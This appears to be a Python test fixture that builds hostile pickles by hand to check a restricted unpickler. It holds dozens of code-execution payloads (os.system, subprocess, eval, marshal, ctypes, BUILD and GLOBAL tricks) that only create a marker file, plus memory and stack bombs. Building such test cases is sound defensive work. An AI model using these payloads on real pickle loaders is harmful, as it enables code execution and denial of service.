"""Hostile pickles of our own making: exploits that would create a marker file, and bombs.

They are assembled opcode by opcode, because `pickle.dumps` cannot write most of them.
"""

from __future__ import annotations

import io
import lzma
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

Part = Callable[[Path], bytes]
"""Opcodes that depend on where the marker is."""


@dataclass(frozen=True)
class Exploit:
    """A pickle that would create the given file; if `live`, plain `pickle.loads` on Linux really does."""

    name: str
    build: Part
    live: bool = True


@dataclass(frozen=True)
class Bomb:
    """A pickle that attacks memory, stack or time."""

    name: str
    build: Callable[[], bytes]


def value(data: object) -> bytes:
    """The opcodes that push plain data."""
    return pickle.dumps(data, 3)[2:-1]


def named(module: str, name: str) -> bytes:
    """The opcodes that push a global."""
    texts = (text.encode() for text in (module, name))
    return b"".join(b"X" + struct.pack("<I", len(text)) + text for text in texts) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """The opcodes that push `function(*arguments)`."""
    return function + b"(" + b"".join(arguments) + b"tR"


def attribute(holder: bytes, name: str) -> bytes:
    """The opcodes that push `getattr(holder, name)`."""
    return call(named("builtins", "getattr"), holder, value(name))


def build(holder: bytes, state: bytes) -> bytes:
    """The opcodes that give `state` to `holder`."""
    return holder + state + b"b"


def pickled(opcodes: bytes) -> bytes:
    """A whole pickle of protocol 4."""
    return b"\x80\x04" + opcodes + b"."


def dtype(name: str, item_bytes: int = -1, *, byte_order: str = "<") -> bytes:
    """The opcodes that push a numpy type as numpy writes it."""
    made = call(named("numpy", "dtype"), value(name), b"\x89", b"\x88")
    return build(made, value((3, byte_order, None, None, None, item_bytes, -1, 0)))


def array(shape: bytes, numpy_type: bytes, data: bytes) -> bytes:
    """The opcodes that push an array as numpy writes it up to protocol 4."""
    made = call(RECONSTRUCT, named("numpy", "ndarray"), value((0,)), value(b"b"))
    return build(made, b"(" + value(1) + shape + numpy_type + b"\x89" + data + b"t")


POPEN = named("subprocess", "Popen")
SYSTEM = named("os", "system")
TIME_POINT = named("nuplan.common.actor_state.state_representation", "TimePoint")
RECONSTRUCT = named("numpy.core.multiarray", "_reconstruct")
SCALAR = named("numpy.core.multiarray", "scalar")
FROM_BUFFER = named("numpy.core.numeric", "_frombuffer")
OBJECT = dtype("O8", byte_order="|")


def _shell(marker: Path) -> bytes:
    return value(f"touch {marker}")


def _touch(marker: Path) -> bytes:
    return value(["touch", str(marker)])


def _code(marker: Path) -> bytes:
    return value(f"open({str(marker)!r}, 'w').close()")


def _path(marker: Path) -> bytes:
    return value(str(marker))


def _system(marker: Path) -> bytes:
    return call(SYSTEM, _shell(marker))


def _nested(marker: Path) -> bytes:
    return value(pickled(_system(marker)))


def _plain(data: object) -> Part:
    return lambda marker: value(data)


def _calls(module: str, name: str, *arguments: Part, live: bool = True) -> Exploit:
    """`module.name(*arguments)`."""

    def make(marker: Path) -> bytes:
        return pickled(call(named(module, name), *(argument(marker) for argument in arguments)))

    return Exploit(f"{module}.{name}", make, live=live)


def _chained(name: str, part: Part, *, live: bool = True) -> Exploit:
    """Any opcodes, as a whole pickle."""
    return Exploit(name, lambda marker: pickled(part(marker)), live=live)


def _import(module: str) -> bytes:
    return call(named("builtins", "__import__"), value(module))


def _system_of(holder: bytes) -> Part:
    return lambda marker: call(attribute(holder, "system"), _shell(marker))


def _attrgetter(marker: Path) -> bytes:
    return call(call(call(named("operator", "attrgetter"), value("system")), _import("os")), _shell(marker))


def _methodcaller(marker: Path) -> bytes:
    return call(call(named("operator", "methodcaller"), value("system"), _shell(marker)), _import("os"))


def _compiled(marker: Path) -> bytes:
    source = call(named("builtins", "compile"), _code(marker), value("x"), value("exec"))
    return call(named("builtins", "exec"), source)


def _marshalled(marker: Path) -> bytes:
    code = marshal.dumps(compile(f"open({str(marker)!r}, 'w').close()", "x", "exec"))
    function = call(
        named("types", "FunctionType"), call(named("marshal", "loads"), value(code)), call(named("builtins", "globals"))
    )
    return call(function)


def _object_file(marker: Path) -> bytes:
    """`numpy.load(file, None, True)` of an object array, which numpy unpickles."""
    file = marker.with_suffix(".npy")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
    file.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled(_system(marker)))
    return call(named("numpy", "load"), value(str(file)), b"N", b"\x88")


def _partial_state(marker: Path) -> bytes:
    """BUILD turns a harmless `functools.partial` into one that calls `os.system`."""
    partial = call(named("functools", "partial"), named("builtins", "len"))
    return call(build(partial, b"(" + SYSTEM + b"(" + _shell(marker) + b"t}Nt"))


def _zipped(marker: Path) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", pickled(_system(marker)))
    return file.getvalue()


EXPLOITS: list[Exploit] = [
    _calls("os", "system", _shell),
    _calls("posix", "system", _shell),
    _calls("nt", "system", _shell, live=False),
    _calls("os", "mkdir", _path),
    _calls("subprocess", "Popen", _touch),
    _calls("subprocess", "check_output", _touch),
    _calls("subprocess", "getoutput", _shell),
    _calls("builtins", "eval", _code),
    _calls("builtins", "exec", _code),
    _calls("builtins", "open", _path, _plain("w")),
    _calls("_io", "FileIO", _path, _plain("w")),
    _calls("codecs", "open", _path, _plain("w")),
    _calls("runpy", "_run_code", _code, _plain({})),
    _calls("pty", "spawn", _touch),
    _calls("timeit", "timeit", _code, _plain("pass"), lambda m: named("time", "time"), _plain(1)),
    _calls("cProfile", "run", _code),
    _calls("pydoc", "pipepager", _plain(""), _shell),
    _calls("shutil", "copyfile", _plain("/dev/null"), _path),
    _calls("logging", "FileHandler", _path),
    _calls("zipfile", "ZipFile", _path, _plain("w")),
    _calls("socketserver", "UnixStreamServer", _path, _plain(None)),
    _calls("socket", "create_connection", _plain(("127.0.0.1", 9)), live=False),
    _calls("webbrowser", "open", _path, live=False),
    _calls("pickle", "loads", _nested),
    _calls("_pickle", "loads", _nested),
    _calls("numpy", "savetxt", _path, _plain([0])),
    _calls("numpy", "memmap", _path, _plain("u1"), _plain("w+"), _plain(0), _plain((1,))),
    _calls("numpy.testing._private.utils", "runstring", _code, _plain({})),
    _calls("numpy.f2py.crackfortran", "myeval", _code),
    _calls("numpy.ctypeslib", "load_library", _path, _plain("."), live=False),
    _calls("numpy", "testing._private.utils.os.system", _shell),
    _calls("os", "path.os.system", _shell),
    _calls("copyreg", "_reconstructor", lambda m: POPEN, _touch, live=False),
    _chained("import and getattr", _system_of(_import("os"))),
    _chained("importlib and getattr", _system_of(call(named("importlib", "import_module"), value("os")))),
    _chained("sys.modules", _system_of(call(named("sys", "modules.get"), value("os")))),
    _chained("compile", _compiled),
    _chained("marshal and FunctionType", _marshalled),
    _chained(
        "ctypes.CDLL",
        lambda m: call(attribute(call(named("ctypes", "CDLL"), b"N"), "system"), value(f"touch {m}".encode())),
    ),
    _chained("operator.attrgetter", _attrgetter),
    _chained("operator.methodcaller", _methodcaller),
    _chained("functools.partial", lambda m: call(call(named("functools", "partial"), SYSTEM, _shell(m)))),
    _chained("functools.partial by BUILD", _partial_state),
    _chained(
        "functools.reduce",
        lambda m: call(named("functools", "reduce"), named("builtins", "exec"), b"](" + _code(m) + b"}e"),
    ),
    _chained("numpy.load", _object_file),
    _chained("numpy object scalar", lambda m: call(SCALAR, OBJECT, _system(m))),
    _chained("numpy object array", lambda m: array(value((1,)), OBJECT, b"]" + _system(m) + b"a")),
    _chained("dropped result", lambda m: _system(m) + b"0]"),
    _chained("dict key", lambda m: b"}" + _system(m) + b"Ns"),
    _chained("INST", lambda m: b"(" + _shell(m) + b"ios\nsystem\n"),
    _chained("OBJ", lambda m: b"(" + SYSTEM + _shell(m) + b"o"),
    _chained("NEWOBJ", lambda m: POPEN + b"(" + _touch(m) + b"t\x81", live=False),
    _chained("NEWOBJ_EX", lambda m: POPEN + b"(" + _touch(m) + b"t}\x92", live=False),
    _chained("STACK_GLOBAL of text opcodes", lambda m: call(b"Vos\nVsystem\n\x93", _shell(m))),
    _chained("GLOBAL", lambda m: call(b"cos\nsystem\n", _shell(m))),
    _chained("GLOBAL with a carriage return", lambda m: call(b"cos\r\nsystem\n", _shell(m)), live=False),
    _chained("EXT1", lambda m: call(b"\x82\x01", _shell(m)), live=False),
    _chained("EXT4", lambda m: call(b"\x84\x01\0\0\0", _shell(m)), live=False),
    _chained("PERSID", lambda m: b"Pos.system\n", live=False),
    _chained("BINPERSID", lambda m: _shell(m) + b"Q", live=False),
    _chained("stand-in class by BUILD", lambda m: build(TIME_POINT, value((None, {"get": 1}))), live=False),
    _chained(
        "stand-in with a class", lambda m: build(call(TIME_POINT), b"}" + value("__class__") + POPEN + b"s"), live=False
    ),
    _chained("numpy function by BUILD", lambda m: build(RECONSTRUCT, value((None, {"x": 1}))), live=False),
    _chained("numpy type by BUILD", lambda m: build(named("numpy", "dtype"), value({"x": 1})), live=False),
    Exploit("Python 2 eval", lambda m: call(b"c__builtin__\neval\n", _code(m)) + b"."),
    Exploit("Python 2 commands", lambda m: call(b"ccommands\ngetoutput\n", _shell(m)) + b"."),
    Exploit("Python 2 copy_reg", lambda m: b"ccopy_reg\n_reconstructor\n" + _path(m) + b"0.", live=False),
    Exploit("behind a harmless pickle", lambda m: b"]." + pickled(_system(m)), live=False),
    Exploit("in a zip archive", _zipped, live=False),
    Exploit("in an xz stream", lambda m: lzma.compress(pickled(_system(m))), live=False),
]


def _doubled(empty: bytes, pair: bytes) -> bytes:
    """40 levels, each of which holds the one below twice: 10^12 values."""
    return pickled(empty + b"".join(pair for _ in range(40)))


def _deep_standin() -> bytes:
    return TIME_POINT + b"q\x000N" + b"q\x010h\x00h\x01\x85\x81" * 200_000


BOMBS: list[Bomb] = [
    Bomb("memo index 2^31", lambda: pickled(b"]r\xff\xff\xff\x7f")),
    Bomb("memo index in text", lambda: pickled(b"]p40000000000\n")),
    Bomb("text of 2^40 bytes", lambda: pickled(b"\x8d" + struct.pack("<Q", 2**40) + b"abc")),
    Bomb("bytes of 2^40 bytes", lambda: pickled(b"\x8e" + struct.pack("<Q", 2**40) + b"abc")),
    Bomb("bytearray of 2^62 bytes", lambda: pickled(b"\x96" + struct.pack("<Q", 2**62) + b"abc")),
    Bomb("frame of 2^62 bytes", lambda: pickled(b"\x95" + struct.pack("<Q", 2**62) + b"]")),
    Bomb("integer of 2^31 bytes", lambda: pickled(b"\x8b\xff\xff\xff\x7f" + b"abc")),
    Bomb("integer of a million digits", lambda: pickled(b"L" + b"9" * 1_000_000 + b"L\n")),
    Bomb("lists 200,000 deep", lambda: pickled(b"]" * 200_000 + b"a" * 199_999)),
    Bomb("stand-ins 200,000 deep", lambda: pickled(_deep_standin())),
    Bomb("stand-ins 200,000 deep as a key", lambda: pickled(b"}" + _deep_standin() + b"Ns")),
    Bomb("tuples 2,000,000 deep as a key", lambda: pickled(b"})" + b"\x85" * 2_000_000 + b"Ns")),
    Bomb("tuples 2,000,000 deep", lambda: pickled(b")" + b"\x85" * 2_000_000)),
    Bomb("doubled tuples", lambda: _doubled(b")", b"2\x86")),
    Bomb("doubled lists", lambda: _doubled(b"]", b"q\x00](h\x00h\x00e")),
    Bomb("a list that holds itself", lambda: pickled(b"]q\x00h\x00a")),
    Bomb("a dict that holds itself", lambda: pickled(b"}q\x05" + value("me") + b"h\x05s")),
    Bomb("array of 7 TiB", lambda: pickled(array(value((10**12,)), dtype("f8"), value(b"")))),
    Bomb(
        "buffer of 7 TiB",
        lambda: pickled(call(FROM_BUFFER, value(bytes(8)), dtype("f8"), value((10**12,)), value("C"))),
    ),
    Bomb("array of forged pointers", lambda: pickled(array(value((1,)), OBJECT, value(b"A" * 8)))),
    Bomb("array of items without size", lambda: pickled(array(value((2**60,)), dtype("U0", 0), value(b"")))),
    Bomb("text type with a false size", lambda: pickled(array(value((1,)), dtype("U3", 7), value(bytes(7))))),
]
